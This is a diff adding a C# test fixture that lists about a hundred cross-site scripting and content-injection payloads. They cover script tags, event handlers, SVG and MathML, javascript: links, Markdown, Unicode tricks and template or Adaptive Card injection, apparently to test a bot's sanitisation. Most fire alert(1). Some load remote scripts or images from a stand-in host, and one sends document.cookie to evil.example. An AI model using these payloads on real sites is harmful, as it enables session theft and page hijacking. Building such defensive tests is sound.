@@ -1,0 +1,123 @@
+namespace SyncBot.Tests.Web.Browser;
+
+/// <summary>What people write who want a page to run something.</summary>
+internal static class ScriptPayloads
+{
+    /// <summary>A hundred of them. What they call has no address, and what they run opens a dialog.</summary>
+    public static IReadOnlyList<string> All { get; } =
+    [
+        // Tags
+        "<script>alert(1)</script>",
+        "<ScRiPt>alert(1)</sCrIpT>",
+        "<script src=https://evil.example/a.js></script>",
+        "<script src=//evil.example/a.js></script>",
+        "<script src=data:text/javascript,alert(1)></script>",
+        "<script type=module>import 'https://evil.example/a.mjs'</script>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<script\n>alert(1)</script\n>",
+        "\"><script>alert(1)</script>",
+        "'><script>alert(1)</script>",
+        "</title><script>alert(1)</script>",
+        "</textarea><script>alert(1)</script>",
+        "</style><script>alert(1)</script>",
+        "<!--><script>alert(1)</script-->",
+        "<![CDATA[<script>alert(1)</script>]]>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<template><script>alert(1)</script></template>",
+        "<iframe src=javascript:alert(1)></iframe>",
+        "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
+        "<iframe src=https://evil.example/></iframe>",
+        "<object data=javascript:alert(1)></object>",
+        "<embed src=https://evil.example/a.swf>",
+        "<base href=https://evil.example/>",
+        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
+        "<link rel=stylesheet href=https://evil.example/a.css>",
+        "<link rel=prefetch href=https://evil.example/>",
+        "<style>@import 'https://evil.example/a.css';</style>",
+        "<style>*{background:url(https://evil.example/b)}</style>",
+        "<form action=javascript:alert(1)><button>Go</button></form>",
+        "<form action=https://evil.example/><input name=q autofocus onfocus=alert(1)></form>",
+        "<isindex type=image src=1 onerror=alert(1)>",
+        "<portal src=https://evil.example/></portal>",
+
+        // Handlers
+        "<img src=x onerror=alert(1)>",
+        "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
+        "<img/src=x/onerror=alert(1)>",
+        "<img src=`x`onerror=alert(1)>",
+        "<IMG SRC=x ONERROR=\"&#97;lert(1)\">",
+        "<img src=https://evil.example/a.png>",
+        "<img srcset=\"https://evil.example/a.png 1x\">",
+        "<picture><source srcset=https://evil.example/a.png><img></picture>",
+        "<body onload=alert(1)>",
+        "<input autofocus onfocus=alert(1)>",
+        "<select autofocus onfocus=alert(1)></select>",
+        "<details open ontoggle=alert(1)>x</details>",
+        "<video src=x onerror=alert(1)></video>",
+        "<video poster=https://evil.example/a.png></video>",
+        "<audio src=https://evil.example/a.mp3 autoplay></audio>",
+        "<marquee onstart=alert(1)>x</marquee>",
+        "<div style=\"background:url(https://evil.example/a)\">x</div>",
+        "<div onpointerover=alert(1) style=\"position:fixed;inset:0\">x</div>",
+        "<p style=\"animation:breathe 1s\" onanimationstart=alert(1)>x</p>",
+        "<button popovertarget=x onclick=alert(1)>x</button>",
+        "\" onmouseover=\"alert(1)",
+        "' autofocus onfocus='alert(1)",
+
+        // SVG and MathML
+        "<svg onload=alert(1)>",
+        "<svg/onload=alert(1)//",
+        "<svg><script>alert(1)</script></svg>",
+        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+        "<svg><image href=https://evil.example/a.png></svg>",
+        "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"></svg>",
+        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+        "<math href=javascript:alert(1)>x</math>",
+
+        // Links
+        "javascript:alert(1)",
+        "<a href=javascript:alert(1)>x</a>",
+        "<a href=\"java\tscript:alert(1)\">x</a>",
+        "<a href=\"&#106;avascript:alert(1)\">x</a>",
+        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+        "<a href=vbscript:msgbox(1)>x</a>",
+        "<a href=# onclick=alert(1)>x</a>",
+        "<a ping=https://evil.example/ href=#>x</a>",
+
+        // Markdown
+        "[x](javascript:alert(1))",
+        "[x](JaVaScRiPt:alert(1))",
+        "[x](javascript&colon;alert(1))",
+        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+        "[x]( javascript:alert(1) \"title\")",
+        "![x](https://evil.example/a.png)",
+        "![x](javascript:alert(1))",
+        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
+        "![x\"onerror=\"alert(1)](x)",
+        "[![x](https://evil.example/a.png)](javascript:alert(1))",
+        "<javascript:alert(1)>",
+        "[ref]: javascript:alert(1)\n\n[ref]",
+        "[ref]: https://evil.example/a.png\n\n![ref]",
+        "```html\n<script>alert(1)</script>\n```\n<img src=x onerror=alert(1)>",
+        "`</code><img src=x onerror=alert(1)>`",
+        "> > > - 1. **_[x](javascript:alert(1))_** <img src=x onerror=alert(1)>",
+        string.Concat(Enumerable.Repeat("> ", 200)) + "[x](javascript:alert(1))",
+        string.Concat(Enumerable.Repeat("[", 150)) + "x" + string.Concat(Enumerable.Repeat("](javascript:alert(1))", 150)),
+        "$$\\href{javascript:alert(1)}{x}$$",
+
+        // Entities, characters
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "&#60;img src=x onerror=alert(1)&#62;",
+        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
+        "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
+        "\u202E<img src=x onerror=alert(1)>\u202C",
+        "<\u200Bscript>alert(1)</script>\u2028<img src=x onerror=alert(1)>",
+
+        // Templates and cards
+        "{{constructor.constructor('alert(1)')()}}",
+        "${alert(1)} ${json('{\"x\":1}')} {{DATE(2026-01-01T00:00:00Z)}}",
+        "{\"type\":\"AdaptiveCard\",\"version\":\"1.5\",\"body\":[{\"type\":\"Image\",\"url\":\"https://evil.example/a.png\"}],\"actions\":[{\"type\":\"Action.OpenUrl\",\"title\":\"x\",\"url\":\"javascript:alert(1)\"}]}",
+    ];
+}
